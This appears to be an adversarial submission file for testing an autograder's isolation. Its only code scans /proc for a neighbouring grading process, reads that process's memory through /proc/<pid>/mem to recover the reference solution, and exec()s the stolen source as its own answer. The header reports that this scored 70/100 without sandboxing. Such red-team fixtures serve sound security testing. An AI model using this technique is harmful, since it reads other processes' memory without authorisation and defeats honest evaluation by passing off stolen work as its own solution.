# HOSTILE limits_only_neighbour_memory: no code of its own; at import (6 s) it looks on the host's /proc for processes of its own uid in another session whose grading worker has the same --results-dir (this run only), and reads their writable memory through /proc/<pid>/mem for the reference source a classmate's train_xor process was handed (UTF-16 or Latin-1 str). Without bubblewrap every child is the same host user 'nobody', dumpable, with no Yama: with --jobs 2 it found the reference in the neighbouring worker's train_xor process and scored 70/100, twice. Sound grader: no other submission's process is in sight: every part 0.
import numpy as np


def _run_of(pid):
    """The --results-dir of the grading worker above ``pid`` (None if none): our own run only."""
    import os
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            return None
        if "--results-dir" in argv:
            return argv[argv.index("--results-dir") + 1]
    return None


def _scan(pid):
    import re
    found = []
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        return None, f"{type(exc).__name__}"
    wide = "class TwoLayerNet".encode("utf-16-le")
    with mem:
        for line in maps:
            fields = line.split()
            if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for pattern, unit, codec in ((b"import numpy as np\n\n\nclass FullyConnectedLayer", 1, "latin-1"),
                                         ("import numpy as np\n\n\nclass FullyConnectedLayer".encode("utf-16-le"), 2, "utf-16-le")):
                at = data.find(pattern)
                while at >= 0:
                    stop = data.find(b"\0" * unit, at)
                    while unit == 2 and stop % 2 != at % 2 and stop >= 0:
                        stop = data.find(b"\0\0", stop + 1)
                    text = data[at:stop].decode(codec, "replace")
                    if "class TwoLayerNet" in text:
                        return text, "ok"
                    at = data.find(pattern, at + 1)
    return None, "no reference in memory"


def _steal():
    import os, time
    mine = _run_of(os.getpid())
    my_sid = os.getsid(0)
    tried = {}
    end = time.monotonic() + 6
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in tried:
                continue
            pid = int(entry)
            try:
                if os.stat(f"/proc/{pid}").st_uid != os.getuid() or os.getsid(pid) == my_sid:
                    continue
            except OSError:
                continue
            if mine is None or _run_of(pid) != mine:
                continue     # another run's process, or not a submission's: leave it alone
            text, how = _scan(pid)
            tried[pid] = how
            if text:
                found = {"np": np}
                exec(compile(text, "<neighbour>", "exec"), found)
                print(f"NEIGHBOUR read the reference ({len(text)} characters) from pid {pid} of the same run")
                return found
            if how != "no reference in memory":
                print("NEIGHBOUR", pid, how)
        for pid in [p for p, how in tried.items() if how == "no reference in memory"]:
            del tried[pid]          # look again: it may be in train_xor by now
        time.sleep(0.05)
    print("NEIGHBOUR nothing found", mine, tried)
    return {"np": np}


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
